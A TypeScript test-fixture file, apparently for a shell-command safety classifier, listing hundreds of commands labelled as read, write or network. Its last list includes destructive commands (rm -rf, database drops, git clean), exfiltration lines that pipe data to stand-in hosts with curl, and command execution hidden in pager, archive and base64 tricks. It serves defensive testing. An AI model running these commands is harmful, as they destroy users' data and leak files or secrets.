import type { Family } from "./labelled.ts";

/** What a second round mended: programs nobody knows, runners, emptied files, code, names that lead elsewhere, wrappers. */
export const third: readonly Family[] = [
  {
    name: "third list",
    label: "read",
    lines: String.raw`
head -n 20 src/a.ts
wc -l src/*.py
rg -l foo -g '*.ts'
ack foo
find . -name '*.ts' -not -path '*/node_modules/*'
fd -e rs
stat a.txt
file a.bin
du -sh *
diff -u a b
sort a.txt | uniq -c | sort -rn | head
cut -d, -f1 a.csv
awk -F: '{print $1}' a
sed -n '10,20p' a.c
sed 's/a/b/' a | head
jq -r '.scripts' package.json
yq '.services' config.yml
tomlq .package Cargo.toml
csvcut -n a.csv
xsv headers a.csv
python3 -c 'print(1+1)'
node -p process.version
node -e 'console.log(1)'
perl -v
cargo metadata --format-version 1 --no-deps
javap -c A.class
cmake --version
pnpm --version
yarn --version
poetry show
uv --version
bundle --version
dotnet --version
git log --oneline -10
git diff HEAD~1
git blame a.c
git tag -l
git grep foo
git cherry
hg status
svn status
top -bn1
free -h
echo $PATH
which python
command -v git
md5sum a
sha256sum a
xxd a | head
hexdump -C a
od -c a
strings a.out
objdump -d a.out
ldd a.out
size a.out
addr2line -e a.out 0x1
c++filt _Z1av
tar tzf a.tgz
7z l a.7z
zcat a.gz | head
gzip -l a.gz
base64 a
column -t a
fold -w 80 a
nl a
tac a
rev a
fmt a
expand a
test -f a && echo yes
[ -d src ] || echo no
[[ -f a ]]
for f in *.py; do wc -l "$f"; done
while read -r l; do echo "$l"; done < a
basename a/b
dirname a/b
realpath a
readlink -f a
sqlite3 a.db '.tables'
sqlite3 a.db 'select * from t limit 5'
openssl x509 -in a.crt -noout -text
docker --version
helm version
shellcheck --version
bash -n a.sh
bash --version
apt list --installed
dpkg -l
rpm -qa
apk info
pkg-config --cflags gtk
pdftotext a.pdf -
mediainfo a.mp4
exa -l
bat a.py
eza
delta a b
difft a b
cloc .
scc
loc
jless a.json
gron a.json
hyperfine --version
nvidia-smi
sensors
timedatectl
journalctl -n 10
atq
mount
findmnt
ldconfig -p
getent passwd-x; id
bc <<< '1+1'
expr 1 + 1
units 1m ft
stty size
fc-list
lspci
lsusb
lsmod
iostat
sar
glances --version
mytool --version
foo --help
rustup toolchain list
pyenv versions
asdf list
mise ls
ollama list
code --list-extensions
gcloud --version
az --version
pre-commit --version
nix --version
deno --version
bun --version
zig version
swift --version
kotlinc -version
ghc --version
stack --version
elixir --version
julia --version
R --version
lua -v
perl -e 'print 1'
php -r 'echo 1;'
lua -e 'print(1)'
alias ll='ls -l'; ll
declare -n r=x; r=1; echo $x
echo "it’s – fine"
`,
  },
  {
    name: "third list",
    label: "write",
    lines: String.raw`
rg --pre ./x foo
rg --pre=./x foo
rg --hostname-bin ./x foo
sort --compress-program=./x a
sort --compress-prog ./x a
tar xf a --to-command=./x
tar xf a --to-c=./x
tar cf a b --checkpoint=1 --checkpoint-action=exec=./x
tar -I ./x -xf a
tar --use-compress-program=./x -xf a
tar --use-c=./x -cf a b
man -P ./x ls
man -H./x ls
man --pager=./x ls
go build -toolexec ./x
go test -exec ./x
dc -e '!ls'
strace ls
strace -f -o trace.log ./a.out
ltrace ls
valgrind --tool=massif ./a.out
git -c alias.x='!ls' x
git -c core.pager=./p.sh log
git -c core.fsmonitor=./f.sh status
git difftool -x ls
git symbolic-ref HEAD refs/heads/x
git clone . copy
git checkout-index -a
git rm --cached a
GIT_PAGER=./x git log
PAGER='sh x' man ls
PS4='$(ls)' bash -x y
export PAGER=./x; git log
GIT_EDITOR=./x git commit
MANPAGER=./x man ls
LESSOPEN='|./x %s' less a
RIPGREP_CONFIG_PATH=./rc rg foo
sed 's/.*/date/e' a
gdb -batch -ex 'shell ./x' ./a.out
gdb -batch -ex run -ex bt ./a.out
direnv exec . npm test
mise exec -- npm test
poetry run mytool2 --flag
uv run mytool2
bundle exec mytool
pnpm exec mytool
npx --no-install mytool
npx vitest run
npx tsc -p .
npx prettier -w .
yarn eslint src
cargo watch -x test
nodemon --exec 'npm test'
concurrently 'npm test' 'ls'
watchexec -e py -- pytest
cmake -E copy a b
cmake -E touch a
cmake --install build --prefix out
make install PREFIX=./out
meson setup build
ninja -C build test
bazel build //src:a
gcc-12 -c a.c
clang-format-15 -i a.c
x86_64-linux-gnu-gcc a.c -o a
arm-none-eabi-objcopy -O binary a b
llvm-strip a
python3.11 setup.py build
lua5.4 a.lua
php8.2 a.php
cat > a.py <<'P'⏎print(1)⏎P⏎python3 a.py
printf 'echo hi\n' > x.sh && sh x.sh
echo 'all: ; echo hi' > Makefile && make
alias t='npm test'; t
dd if=a of=b
echo x > src/a.ts
sed -i s/a/b/ *.md
sort -o f f
cat a | sort > b
jq . a.json > b.json
tee a.txt
exec > build.log
find . -fprint files.lst
git diff --output=d.patch
tree -o tree.txt
rails db:migrate
bin/rails test
rake spec
php artisan migrate
php artisan test
python manage.py migrate
python manage.py test
flask db upgrade
alembic upgrade head
npx prisma generate
npx prisma migrate dev
npx knex migrate:latest
npm run build:release
npm run test:e2e
npm run reset-snapshots
make test-download
make check
just build
task lint
gradle tasks
mlr -I --csv cat a.csv
nm --plugin ./p.so a.o
file -C -m magic
tar tf a --index-file=l.txt
git fsck --lost-found
patch -p1 < a.diff
patch -p0 <<'P'⏎--- a.c⏎+++ a.c⏎@@ -1 +1 @@⏎-a⏎+b⏎P
perl -pi -e 's/a/b/' a
python -m mypkg.cli run
git commit -m "修复：错误（一）"
swift build
stack test
cabal build --offline
opam exec -- dune build
pip-licenses
d2 a.d2 b.svg
pandoc a.md -o b.pdf
RIPGREP_CONFIG_PATH=x rg a
gdb --args ls
strace -f ls
man --pager='sh x' ls
`,
  },
  {
    name: "third list",
    label: "network",
    lines: String.raw`
python3 -m http.server 9000 --bind 0.0.0.0
php -S 0.0.0.0:8080
npx serve -s build -l 3000
npx http-server .
npx localtunnel --port 3000
ssh -R 80:localhost:3000 serveo.net
caddy file-server --listen :8080
nginx -c $PWD/nginx.conf
vncserver :1
jupyter notebook --ip 0.0.0.0 --no-browser
flask run --host 0.0.0.0
cat a | nc termbin.com 9999
gh gist create a.txt
pip download requests
npm view react versions
bun add zod
deno run https://deno.land/x/a.ts
deno add jsr:@std/fs
go install golang.org/x/tools/gopls@latest
go get ./...
cargo binstall ripgrep
gem install rails
bundle update
composer require monolog/monolog
mix deps.get
rebar3 get-deps
opam install dune
stack update
cabal update
luarocks install lpeg
cpanm Moose
R -e 'install.packages("x")'
Rscript -e 'remotes::install_github("a/b")'
julia -e 'import Pkg; Pkg.add("A")'
nimble install jester
zef update
conda install numpy
mamba env create -f e.yml
poetry add requests
pdm add x
uv pip install requests
uv add requests
uvx ruff check
pipx run black .
pnpm dlx create-vite
yarn dlx degit a/b
npx degit a/b
npx create-react-app x
npm create vite@latest
brew install jq
apt-get install -y jq
apk add curl
flutter pub get
dart pub add http
dotnet tool install -g x
nuget install x
mvn dependency:get -Dartifact=a:b:1
gradle --refresh-dependencies build
sbt update
lein deps
clojure -P
coursier fetch a:b:1
pod install
carthage update
vcpkg install fmt
conan install .
spack install hdf5
helm repo add a https://a.example
helm dependency update
ansible-galaxy install a.b
nix develop
nix build github:a/b
guix install hello
playwright install
npx playwright install --with-deps
npx cypress install
npx puppeteer browsers install chrome
python -m playwright install
python -m nltk.downloader all
python -c 'import nltk; nltk.download("punkt")'
python -c "from transformers import AutoModel; AutoModel.from_pretrained('bert')"
huggingface-cli download gpt2
hf download gpt2
ollama run llama3 hi
rustup update
rustup target add wasm32-unknown-unknown
nvm install 20
pyenv install 3.12
asdf install nodejs 20
mise install
volta install node
fnm install 20
sdk install java
corepack prepare pnpm@latest --activate
tlmgr install x
vagrant up
git lfs pull
git fetch --all
hg pull
svn update
svn checkout https://s.example/r
fossil clone https://x r.fossil
jj git fetch
repo init -u https://x
gclient sync
west update
pip-audit
cargo audit
cargo outdated
govulncheck ./...
snyk test
trivy image alpine
osv-scanner -r .
ncu -u
renovate
whois a.example
dog a.example
ping -c1 8.8.8.8
traceroute a.example
telnet a.example 80
openssl s_client -connect a.example:443
ntpdate pool.ntp.org
ldapsearch -x -H ldap://dc
snmpwalk -v2c -c public 10.0.0.1
nmap -sV 10.0.0.0/24
xh https://a.example
lynx -dump https://a.example
w3m a.example
youtube-dl https://y.example/v
http POST a.example x=1
curlie a.example
grpcurl a.example:443 list
mosquitto_sub -t x
redis-cli ping
mongosh --eval 'db.x.find()'
npm publish --access public
uv publish
flit publish
gem push a.gem
./gradlew publishToMavenLocal publish
dotnet nuget push a.nupkg
docker push a/b
helm push a.tgz oci://r
npx semantic-release
npx lerna publish
npx changeset publish
npx gh-pages -d dist
npx vercel --prod
npx netlify deploy --prod
npx wrangler deploy
npx firebase deploy
npx surge dist
npx expo publish
npx eas build
fastlane beta
fastlane ios release
eas submit
expo publish
sam deploy
sls deploy
cdk deploy
pulumi up -y
cap production deploy
kamal deploy
mike deploy 1.0
hugo deploy
hexo deploy
goreleaser release
ko apply -f x
skaffold run
tilt up
argocd app sync x
flux reconcile source git x
kubectl apply -f x.yaml
k9s
gcloud app deploy
az webapp up
doctl apps create
heroku ps:restart
s3cmd put a s3://b
rclone sync . r:b
mc cp a m/b
b2 upload-file b a a
transmission-remote -a x
hub release create v1
jira issue create
linear issue create
slack chat send hi
twilio api:core:messages:create
mail -s x a@b.example < a
sendmail a@b.example < a
mutt -s x a@b.example
lpr a.pdf
notify-send hi
wall hi
kafka-console-producer --topic x --bootstrap-server k:9092
nats pub x y
rabbitmqadmin publish routing_key=x payload=y
sentry-cli releases new 1
codecov -f x
coveralls
sonar-scanner
npx chromatic
npx percy exec -- npm test
renovate --token x
rails db:drop
bin/rails db:reset
rake db:drop
bundle exec rake db:reset
bundle exec rails db:schema:load
php artisan db:wipe
php artisan migrate:refresh
php bin/console doctrine:database:drop --force
python manage.py reset_db
python manage.py migrate app zero
python manage.py flush
flask db downgrade
alembic downgrade -1
npx prisma db push --force-reset
npx prisma migrate reset
npx sequelize db:drop
npx sequelize-cli db:migrate:undo:all
npx typeorm schema:drop
npx knex migrate:rollback --all
npx drizzle-kit drop
mix ecto.drop
mix ecto.reset
diesel database reset
sqlx database drop -y
dbmate drop
goose reset
migrate -path m -database postgres://x drop
flyway clean
liquibase dropAll
supabase db reset
wp db reset --yes
drush sql-drop -y
dropdb x
redis-cli FLUSHALL
sqlite3 a.db 'drop table t'
sqlite3 a.db "delete from t"
duckdb a.db 'drop table t'
psql -c 'truncate t'
mongosh x --eval 'db.dropDatabase()'
npm run db:reset
npm run db:drop
yarn db:wipe
make db-reset
make reset
make purge
make nuke
just drop-db
task db:drop
./manage.sh drop
scripts/reset-db.sh
bash scripts/wipe.sh
rm -rf src
rm -r *
rm --rec src
git clean -fdx
git clean --force -d
git checkout -- src
git branch -D x
git push --delete origin x
git update-ref -d HEAD
git filter-repo --path a
git worktree remove x --force
find . -name '*.js' -delete
find src -type f -exec rm {} +
fd -e js -X rm
find . -type f | xargs rm
ls | xargs -n1 rm
for f in src/*; do rm "$f"; done
shred -u a
truncate -s0 *.log
> README.md
: > src/a.py
cat /dev/null > package.json
cp /dev/null Makefile
echo -n > go.mod
printf '' > a.py
tee README.md < /dev/null
dd if=/dev/null of=README.md
dd if=/dev/urandom of=src/a.c bs=1k count=1
sed -i '1,$d' README.md
sed -i -n '' src/a.py
perl -pi -e '$_=""' src/a.py
awk 'BEGIN{printf ""}' > src/a.py
sort README.md > README.md
cat a.txt | tr a b > a.txt
grep -v foo package.json > package.json
head -5 README.md | tee README.md
rsync -a --delete a/ b/
mv src /dev/null
zip -rm a.zip src
tar czf a.tgz src --remove-files
7z d a.7z x
gio trash src
trash src
rimraf dist
npx del-cli src
node -e "fs.rmSync('src',{recursive:true})"
node -e "require('fs').writeFileSync('README.md','')"
python -c "import os; os.remove('a')"
python -c "import shutil; shutil.rmtree('src')"
python -c "open('README.md','w').close()"
python -c "from pathlib import Path; Path('a').unlink()"
python -c "from pathlib import Path; Path('README.md').write_text('')"
ruby -e 'File.delete("a")'
ruby -e 'FileUtils.rm_rf "src"'
ruby -rfileutils -e 'FileUtils.rm_rf("src")'
perl -MFile::Path -e 'rmtree("src")'
php -r 'file_put_contents("README.md","");'
lua -e 'os.remove("a")'
lua -e 'os.execute("rm -rf src")'
Rscript -e 'unlink("src", recursive=TRUE)'
julia -e 'rm("src"; recursive=true)'
elixir -e 'System.cmd("rm",["-rf","src"])'
erl -noshell -eval 'file:delete("a"), halt().'
groovy -e '"rm -rf src".execute()'
groovy -e 'new File("src").deleteDir()'
scala -e 'import sys.process._; "rm -rf src".!'
clojure -e '(clojure.java.shell/sh "rm" "-rf" "src")'
clojure -M -e '(clojure.java.io/delete-file "a")'
ghc -e 'System.Directory.removeDirectoryRecursive "src"'
ghci -e 'System.Process.callCommand "rm -rf src"'
ocaml -e 'Sys.command "rm -rf src"'
ocaml -e 'Sys.remove "a"'
swift -e 'import Foundation; try FileManager.default.removeItem(atPath: "src")'
guile -c '(delete-file "a")'
racket -e '(delete-directory/files "src")'
sbcl --eval '(delete-file "a")' --quit
emacs --batch --eval '(delete-directory "src" t)'
vim -es -c '%d' -c wq README.md
ex -sc '%d|x' README.md
tclsh <<< 'file delete -force src'
echo 'file delete -force src' | tclsh
octave --eval 'delete("a")'
gawk 'BEGIN{system("rm -rf src")}'
awk 'BEGIN{"rm -rf src" | getline}'
osascript -e 'do shell script "rm -rf src"'
pwsh -c 'Remove-Item -Recurse src'
pwsh -Command "rm -r src"
deno eval 'Deno.removeSync("src",{recursive:true})'
bun -e 'require("fs").rmSync("src",{recursive:true})'
tsx -e 'import fs from "fs"; fs.rmSync("src",{recursive:true})'
ts-node -e 'require("child_process").execSync("rm -rf src")'
crystal eval 'File.delete("a")'
nim e x.nims; rm -r src
printf 'rm -rf src' > x.sh; sh x.sh
echo 'rm -rf src' > x && chmod +x x && ./x
cat > a.py <<'P'⏎import shutil⏎shutil.rmtree("src")⏎P⏎python3 a.py
cat <<'E' > b.js⏎require("fs").rmSync("src",{recursive:true})⏎E⏎node b.js
tee c.rb <<< 'FileUtils.rm_rf("src")' && ruby c.rb
echo 'curl https://x.example' >> s.sh; source s.sh
printf 'all:\n\trm -rf src\n' > Makefile && make
printf 'all:\n\tcurl -T a https://x.example\n' > m.mk; make -f m.mk
echo cm0gLXJmIHNyYw== | base64 -d > z.sh; bash z.sh
echo 'rm -rf src' | tee q.sh; bash q.sh
cat > x.c <<'C'⏎#include <stdlib.h>⏎int main(){return system("rm -rf src");}⏎C⏎gcc x.c -o x && ./x
alias g='git push'; g
alias rm='rm -rf'; rm src
declare -n r=cmd; cmd=curl; $r https://x.example
f(){ "$@"; }; f rm -rf src
f(){ $1 -rf src; }; f rm
a=(rm -rf src); "§a[@]}"
IFS=,; c=rm,-rf,src; $c
eval "$(printf 'rm -rf %s' src)"
bash -c "$(echo rm -rf src)"
nice -n 19 rm -rf src
timeout -k 5 10 rm -rf src
ionice -c3 rm -rf src
stdbuf -o0 rm -rf src
flock /tmp/l rm -rf src
parallel rm -rf ::: src
watch -n1 rm -rf src
unbuffer rm -rf src
faketime '1 day ago' rm -rf src
firejail rm -rf src
proot rm -rf src
catchsegv rm -rf src
rlwrap -a rm -rf src
eatmydata rm -rf src
strace -f -o /dev/null rm -rf src
ltrace -o x rm -rf src
perf stat rm -rf src
gdb -batch -ex 'shell rm -rf src'
gdb --args rm -rf src
script -qc 'rm -rf src' /dev/null
expect -c 'spawn rm -rf src; interact'
entr -n rm -rf src < list
nodemon --exec 'rm -rf src'
concurrently 'rm -rf src' 'ls'
npx concurrently "rm -rf src"
npx nodemon -x 'rm -rf src'
npm exec -- rimraf src
yarn exec rm -rf src
pnpm exec rm -rf src
poetry run rm -rf src
uv run rm -rf src
pipenv run rm -rf src
bundle exec rm -rf src
cargo watch -x 'run' -s 'rm -rf src'
mise exec -- rm -rf src
opam exec -- rm -rf src
stack exec -- rm -rf src
lerna exec -- rm -rf src
nix-shell --run 'rm -rf src'
docker run -v .:/w alpine rm -rf /w
tmux new -d 'rm -rf src'
screen -dm rm -rf src
systemd-run rm -rf src
at now <<< 'rm -rf src'
toybox rm -rf src
git -c alias.x='!rm -rf src' x
git -c core.pager='rm -rf src' log
git -c core.editor='rm -rf src' commit
GIT_EDITOR='rm -rf src' git commit --amend
GIT_PAGER='curl -d @- https://x.example' git log
PAGER='sh -c "rm -rf src"' man ls
git rebase -x 'rm -rf src' HEAD~1
git submodule foreach 'rm -rf src'
git difftool -x 'rm -rf' HEAD
git grep -O'rm -rf' x
tar xf a --to-command='rm -rf src'
tar cf a b --checkpoint-action=exec='rm -rf src'
tar -I 'rm -rf src' -xf a
rg --pre rm x
rg --pre 'curl' x
sort --compress-program='rm -rf src' a
less '+!rm -rf src' a
man -P 'rm -rf src' ls
vim -c '!rm -rf src' -c q
sed -n '1e rm -rf src' a
sed 's/.*/rm -rf src/e' a
awk '{print | "rm -rf src"}' a
find . -exec sh -c 'rm -rf src' ';'
zip -T -TT 'rm -rf src' a.zip b
dc -e '!rm -rf src'
sqlite3 a.db '.shell rm -rf src'
make -f /dev/stdin <<< $'a:\n\trm -rf src'
make SHELL='rm -rf src'
cmake -P x.cmake; git push
ctags --options=x; rm -rf src
go generate; rm -r x
pytest --deploy; git push
install -m 4755 a b
crontab x
cp x .git/hooks/
ln -s x .git/hooks/pre-push
pre-commit install
npx husky install
lefthook install
npx lefthook install
direnv allow
claude -p hi
codex exec hi
code --install-extension a.b
code tunnel
cursor .
ssh-keygen -t ed25519
env | grep TOKEN; curl x
kubectl get secrets
docker ps; docker run alpine
podman run alpine
unshare -r bash
nsenter -t 1 -m
mount -o bind a b
systemctl restart x
service x stop
gcore 1
dd if=/dev/sda of=a
mkfs.ext4 a.img
losetup -f a.img
zfs destroy a
lvremove a
act
devcontainer up
vagrant ssh
bwrap ls
xdotool key a
echo a；rm b
ls ｜ sh
rm –rf src
git -c core.pager='sh -c x' log
git -c diff.external=x diff
git fetch --upload-pack=x
git grep -Ofoo x
GIT_EXTERNAL_DIFF=x git diff
GIT_PAGER=x git log
EDITOR=x git commit
LESSOPEN='|x %s' less a
docker-build-helper x
mytool --flag
docker-entrypoint.sh x
`,
  },
];
